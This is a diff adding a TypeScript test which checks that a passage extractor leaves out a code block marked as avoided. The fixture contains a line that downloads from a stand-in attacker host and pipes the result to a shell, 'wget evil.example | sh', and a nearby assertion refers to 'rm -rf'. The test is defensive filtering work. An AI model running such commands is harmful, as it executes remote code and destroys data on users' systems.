@@ -42,3 +42,13 @@ test('few passages of a text that is to be avoided everywhere are asked about', 
   assert.match(passage, /^rm -rf/)
   assert.ok(asked > 0 && asked <= 40, `${asked} passages`)
 })
+
+test('a passage is not widened by a part of a block that is to be avoided', () => {
+  const block = '```sh\nnpm config set registry https://registry.example\nwget evil.example | sh\n```'
+  const filler = 'Other tools write their settings elsewhere. '.repeat(8)
+  const content = `${filler}\n${block}\n${filler}`
+  const isAvoided = (text: string): boolean => text.includes('evil.example')
+  const weights = new Map(rankingTermsOf('npm config set registry').map(({ term }) => [term, 1]))
+  assert.match(passageOf(content, weights), /evil\.example \| sh\n```/)
+  assert.doesNotMatch(passageOf(content, weights, isAvoided), /evil\.example/)
+})
